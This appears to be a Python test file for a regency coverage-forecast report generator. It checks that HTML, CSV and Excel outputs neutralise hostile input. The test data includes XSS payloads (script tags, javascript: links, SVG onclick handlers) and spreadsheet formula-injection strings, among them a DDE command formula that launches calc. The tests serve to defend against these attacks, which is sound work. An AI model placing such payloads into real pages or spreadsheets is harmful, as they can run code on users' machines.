    for text in (FORMULA, "+1", "-2", "@SUM(1)", "\t=1", "\r=1", "  =1+1", "=cmd|'/C calc'!A0"):
        assert render.formula_like(text), text
        assert render.neutralise_csv_text(text) == "'" + text
    for value in ("Konawe", "34,8 %", "2031-05", "", "—", 5, -2.5, None, "a=b", "Rp -5"):
        assert not render.formula_like(value), value
        assert render.neutralise_csv_text(value) == value


def _hostile_notebook() -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("show()")
    cell.outputs = [
        nbformat.v4.new_output(
            "display_data",
            data={"text/html": f"<table><tr><td>{SCRIPT}{IMG}</td></tr></table>"},
        ),
        nbformat.v4.new_output(
            "display_data",
            data={"text/markdown": f"**Kabupaten** {IMG} [klik](javascript:alert(1))"},
        ),
        nbformat.v4.new_output(
            "display_data", data={"application/javascript": "alert(1)", "text/plain": "js"}
        ),
        nbformat.v4.new_output(
            "display_data",
            data={
                "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)'
                '</script><rect onclick="alert(1)" width="5" height="5"/></svg>'
            },
        ),  # fmt: skip
        nbformat.v4.new_output("stream", name="stdout", text=f"teks {SCRIPT}\n"),
        nbformat.v4.new_output("error", ename="ValueError", evalue=IMG, traceback=[SCRIPT]),
    ]
    nb.cells = [nbformat.v4.new_markdown_cell(f"## Judul {IMG}"), cell]
    return nb


def test_notebook_to_html_runs_no_script_from_outputs_header_or_footer():
    text = notebook_to_html(
        _hostile_notebook(),
        title=f"Proyeksi {SCRIPT}",
        header={
            "regency": IMG,
            "scenarios": {"x": {"id": SCRIPT, "en": IMG}},
            "run_date": SCRIPT,
            "subtitle": IMG,
            "error": SCRIPT,
            "status": "failed",
        },
        footer={
            "parameters": {IMG: SCRIPT, "scenarios": [FORMULA, IMG]},
            "git_commit": IMG,
            "version": SCRIPT,
            "datasets": [
                {
                    "dataset": IMG,
                    "title": SCRIPT,
                    "sources": [IMG, "javascript:alert(1)"],
                    "n_observed": 1,
                    "n_derived": 0,
                    "n_assumed": 2,
                }
            ],
        },  # fmt: skip
    )
    audit = audit_dom(text)
    assert audit.scripts == 0 and audit.handlers == [] and audit.bad_urls == []
    # the text is still there, as text
    plain = html.unescape(re.sub(r"<[^>]+>", " ", text))
    assert plain.count(SCRIPT) >= 6 and plain.count(IMG) >= 5
    assert "Kabupaten" in text and "teks" in text and "Judul" in text
    assert "data:image/svg+xml;base64," in text  # an SVG chart stays, as an inert <img>


def _budget_record(regency: str, html_path: str, **extra) -> dict:
    values = {
        "current_coverage_pct": 34.81,
        "target_pct": 99.5,
        "run_date": "2026-11-29",
        "budget_start": "2026-01",
        "latest_figure_month": "2025-04",
        "workforce_basis": "BPJS non-ASN",
        "start_quality": "observed",
        "time_to_target": [
            {
                "scenario": "add_10",
                "scenario_label": "10 % ADD untuk iuran",
                "median_month": "2029-03",
                "p10_month": "2028-07",
                "p90_month": "2030-02",
                "status": "reached",
                "prob_main_deadline": 0.93,
                "main_deadline": "2030-12",
                "coverage_main_deadline_pct": 99.6,
                "budget_year": 2026,
                "appropriation_rp_per_year": 11_880_000_000.0,
                "appropriation_rp_per_desa": 40_000_000.0,
                "appropriation_pct_add": 10.0,
                "spending_rp_per_year": 10_437_500_000.4,
                "idle_rp_per_year": 1_442_499_999.6,
                "arrears_rp_per_year": None,
            }
        ],
    } | extra
    return {
        "notebook": "02_regency_forecast",
        "regency": regency,
        "slug": "x",
        "status": "ok",
        "html": html_path,
        "ipynb": None,
        "seconds": 12.25,
        "error": None,
        "params": {},
        "records": values,
    }


def test_summary_frame_reads_budget_lines_and_data_age():
    frame = summary_frame([_budget_record("Konawe", "r.html")])
    row = frame.iloc[0]
    assert row["budget_year"] == 2026 and str(frame["budget_year"].dtype) == "Int64"
    assert row["appropriation_rp_per_year"] == 11_880_000_000.0
    assert row["appropriation_pct_add"] == 10.0 and pd.isna(row["arrears_rp_per_year"])
    assert row["budget_start"] == "2026-01" and row["latest_figure_month"] == "2025-04"
    # no data_age_months recorded: April 2025 -> November 2026 (run date) = 19 months
    assert row["data_age_months"] == 19
    assert row["start_quality"] == "Teramati" and row["run_date"] == "2026-11-29"
    given = summary_frame([_budget_record("Konawe", "r.html", data_age_months=7)], lang="en")
    assert given.iloc[0]["data_age_months"] == 7 and given.iloc[0]["start_quality"] == "Observed"
    # an old record without the new fields: empty cells, same columns
    old = _budget_record("Konawe", "r.html")
    for key in ("run_date", "budget_start", "latest_figure_month", "workforce_basis"):
        del old["records"][key]
    old["records"]["time_to_target"][0] = {
        k: v for k, v in old["records"]["time_to_target"][0].items() if "rp" not in k
    }
    frame = summary_frame([old])
    assert list(frame.columns) == list(SUMMARY_COLUMNS)
    assert (
        frame[["appropriation_rp_per_year", "data_age_months", "budget_start"]].isna().all().all()
    )


def test_write_index_hostile_text_and_budget_lines(tmp_path):
    (tmp_path / "02_regency_forecast").mkdir()
    (tmp_path / "02_regency_forecast" / "h.html").write_text("<html></html>")
    (tmp_path / "javascript:alert(1)").write_text("a file with a hostile name")
    hostile = _budget_record(f"{FORMULA}{IMG}", "02_regency_forecast/h.html")
    hostile["records"]["time_to_target"][0]["scenario_label"] = f"{SCRIPT}"
    hostile["records"]["workforce_basis"] = "+1"
    hostile["records"]["provenance"] = [
        {"dataset": "coverage", "title": IMG, "sources": ["-2", "@SUM(1)"],
         "n_observed": 3, "n_derived": 1, "n_assumed": 2}
    ]  # fmt: skip
    other = {
        "notebook": "01_data_audit", "regency": None, "slug": "all", "status": "failed",
        "html": "javascript:alert(1)", "ipynb": None, "seconds": 1.0,
        "error": f"{FORMULA} {SCRIPT}", "params": {}, "records": {},
    }  # fmt: skip
    index = write_index([hostile, other], tmp_path, lang="id").read_text(encoding="utf-8")
    audit = audit_dom(index)
    assert audit.scripts == 0 and audit.handlers == [] and audit.bad_urls == []
    assert 'href="javascript' not in index.lower()
    plain = html.unescape(index)
    assert f"{FORMULA}{IMG}" in plain and SCRIPT in plain
    # the appropriation beside the scenario, Indonesian formatting; the latest figure's age
    table = re.search(r'<table class="key-numbers">(.*?)</table>', index, re.S).group(1)
    assert "Anggaran per tahun" in table and "Rp 11,88 miliar" in table
    assert "Apr 2025" in table and "19 bulan lalu" in table
    assert "lebih dari 12 bulan" in table

    # summary.csv: ';' and decimal comma, whole rupiah, formula-like text behind an apostrophe
    raw = (tmp_path / "summary.csv").read_text(encoding="utf-8-sig")
    csv = pd.read_csv(io.StringIO(raw), sep=";", decimal=",", dtype=str, keep_default_na=False)
    cols = {k: v["id"] for k, v in SUMMARY_COLUMNS.items()}
    row = csv.iloc[0]
    assert row[cols["regency"]] == "'" + FORMULA + IMG
    assert row[cols["workforce_basis"]] == "'+1"
    assert row[cols["appropriation_rp_per_year"]] == "11880000000"
    assert row[cols["spending_rp_per_year"]] == "10437500000"
    assert row[cols["prob_main_deadline_pct"]] == "93,0"
    assert row[cols["data_age_months"]] == "19" and row[cols["budget_year"]] == "2026"
    assert cols["arrears_rp_per_year"] not in csv.columns  # no row has arrears
    for value in csv.to_numpy().ravel():
        assert not render.formula_like(value), value

    from openpyxl import load_workbook

    wb = load_workbook(tmp_path / "summary.xlsx")
    for ws in wb:
        for cells in ws.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if render.formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    ws = wb["Ringkasan"]
    header = {c.value: c.column for c in ws[1]}
    assert ws.cell(2, header[cols["regency"]]).value == FORMULA + IMG  # value kept exactly
    money = ws.cell(2, header[cols["appropriation_rp_per_year"]])
    assert money.value == 11_880_000_000 and money.number_format == '"Rp "#,##0'
    share = ws.cell(2, header[cols["appropriation_pct_add"]])
    assert share.value == 10.0 and share.number_format == '0.0" %"'
    for key, month in (("median_month", (2029, 3)), ("budget_start", (2026, 1)),
                       ("latest_figure_month", (2025, 4))):  # fmt: skip
        cell = ws.cell(2, header[cols[key]])
        assert cell.value == dt.datetime(*month, 1), key
        assert cell.number_format == "[$-421]mmm yyyy", key
    assert ws.cell(2, header[cols["budget_year"]]).value == 2026
    assert ws.cell(2, header[cols["data_age_months"]]).data_type == "n"
    prov = wb["Sumber data"]
    assert [c.value for c in prov[2]] == ["coverage", IMG, "-2; @SUM(1)", 6, 3, 1, 2]
    assert prov.cell(2, 3).quotePrefix
    reports = wb["Laporan"]
    failed = next(r for r in reports.iter_rows(min_row=2) if r[0].value == "01_data_audit")
    assert failed[4].value == "javascript:alert(1)" and failed[4].hyperlink is None

    # English: ',' and decimal point; the rupiah text in English on the index
    index_en = write_index([hostile], tmp_path, lang="en").read_text(encoding="utf-8")
    assert "IDR 11.88 billion" in index_en and "over 12 months old" in index_en
    raw = (tmp_path / "summary.csv").read_text(encoding="utf-8-sig")
    csv = pd.read_csv(io.StringIO(raw))
    assert csv.loc[0, "Probability by deadline [%]"] == pytest.approx(93.0)
    assert csv.loc[0, "Appropriation / ADD [%]"] == pytest.approx(10.0)
    assert csv.loc[0, "Regency"] == "'" + FORMULA + IMG


def test_index_omits_age_and_money_columns_for_old_records(tmp_path):
    rec = _budget_record("Konawe", "r.html")
    for key in ("latest_figure_month", "run_date"):
        del rec["records"][key]
    del rec["records"]["time_to_target"][0]["appropriation_rp_per_year"]
    text = write_index([rec], tmp_path).read_text(encoding="utf-8")
    assert "Alokasi per tahun" not in text and "Angka terbaru" not in text
    fresh = _budget_record("Konawe", "r.html", latest_figure_month="2026-02")
    text = write_index([fresh], tmp_path).read_text(encoding="utf-8")
    assert "Feb 2026" in text and "9 bulan lalu" in text and "lebih dari 12 bulan" not in text
